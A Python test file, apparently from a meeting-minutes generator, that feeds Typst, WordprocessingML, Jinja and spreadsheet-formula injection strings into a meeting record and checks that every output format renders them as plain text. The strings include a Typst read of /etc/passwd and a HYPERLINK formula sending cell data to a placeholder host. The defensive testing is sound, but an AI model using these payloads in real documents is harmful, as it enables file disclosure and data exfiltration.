"""Issue 11, point 4: text from YAML never becomes markup in any output.

One meeting carries Typst, WordprocessingML, spreadsheet-formula and Jinja syntax in its
free-text fields; the test builds it and inspects the produced bytes of every format.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner

from rapatgen.cli import main
from tests.conftest import bare_project, write_meeting
from tests.readback import docx_text, flat, pdf_text

pytestmark = pytest.mark.slow

TYPST = '#read("/etc/passwd") #import "x.typ": * ] $x^2$ <label> @ref // komentar /* blok */ \\ "kutip" #strong[T]'
WML = '</w:t></w:r><w:r><w:t>SUNTIK</w:t></w:r></w:p><w:p/> <w:hyperlink r:id="rId1"> &amp; {PAGE}'
FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
JINJA = "{{ 7*7 }} {% if true %}YA{% endif %} {# c #}"
STARTS = ["+62 812 0000", "-5 persen dari target", "@dinsos_bll mengoordinasikan"]


def _q(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


MEETING = f"""\
id: uji-injeksi
jenis: rakor
judul: {_q("Rapat " + TYPST)}
tema: {_q(JINJA)}
sesi:
  - tanggal: 2025-03-12
    mulai: "09.00"
    tempat: {_q(WML)}
pimpinan:
  ketua: sekda_bll
undangan:
  tanggal: 2025-03-05
  hal: {_q(TYPST)}
  yth: [dinsos_bll]
narasumber:
  - id: kepala_bappeda_bll
    materi: {_q(JINJA)}
pembahasan:
  - judul: {_q(WML)}
    catatan: {_q(TYPST + " dan " + WML)}
kesepakatan:
  - id: K1
    isi: {_q(FORMULA)}
    pj: bappeda_bll
    batas_waktu: 2025-06-30
    riwayat:
      - {{tanggal: 2025-03-20, status: proses, catatan: {_q(WML)}}}
""" + "".join(f"""\
  - id: K{i}
    isi: {_q(text)}
    pj: dinsos_bll
""" for i, text in enumerate(STARTS, 2))


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = bare_project(tmp_path_factory.mktemp("injeksi"))
    write_meeting(root, MEETING, "agendas/uji.yaml")
    r = CliRunner().invoke(main, ["build", "--per", "2025-04-01", "--proyek", str(root)])
    assert r.exit_code == 0, r.output
    return root


def _file(root, stem, fmt):
    return root / "outputs" / "uji-injeksi" / f"{stem}-uji-injeksi.{fmt}"


def test_typst_markup_prints_literally(built):
    text = flat(pdf_text(_file(built, "notulen", "pdf")))
    assert flat("Rapat " + TYPST).upper() in text.upper()  # the title may be set in capitals
    # notes are Markdown (emphasis and escapes are theirs), but Typst syntax stays text
    for piece in ('#read("/etc/passwd")', '#import"x.typ"', "$x^2$", "<label>", "@ref", "#strong[T]"):
        assert piece in text, piece
    assert "root:" not in text  # /etc/passwd was not read
    letter = flat(pdf_text(next((built / "outputs" / "uji-injeksi").glob("undangan-*.pdf"))))
    assert flat(TYPST) in letter


def test_wordprocessingml_prints_literally(built):
    path = _file(built, "notulen", "docx")
    xml = zipfile.ZipFile(path).read("word/document.xml")
    assert b"<w:t>SUNTIK</w:t>" not in xml and b"<w:hyperlink" not in xml
    assert b"&lt;/w:t&gt;&lt;/w:r&gt;" in xml
    assert flat(WML) in flat(docx_text(path))


def test_jinja_syntax_in_values_prints_literally(built):
    for fmt, read in (("pdf", pdf_text), ("docx", docx_text)):
        text = flat(read(_file(built, "notulen", fmt)))
        assert flat(JINJA) in text, fmt
        assert "49" not in text


def test_tracker_cells_starting_with_formula_signs_are_text(built):
    path = built / "outputs" / "matriks-tindak-lanjut.xlsx"
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    ws = openpyxl.load_workbook(path)["Tindak Lanjut"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in [FORMULA, *STARTS]:
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert cells["Kesepakatan / Arahan"].quotePrefix is False  # ordinary text untouched


def test_csv_fields_starting_with_formula_signs_are_quoted(built):
    r = CliRunner().invoke(main, ["followup", "list", "--semua", "--csv", "--per", "2025-04-01", "--proyek", str(built)])
    assert r.exit_code == 0, r.output
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.output))}
    assert rows["uji-injeksi/K1"]["isi"] == "'" + FORMULA
    for i, text in enumerate(STARTS, 2):
        assert rows[f"uji-injeksi/K{i}"]["isi"] == "'" + text
    assert rows["uji-injeksi/K1"]["pj"] == "bappeda_bll"
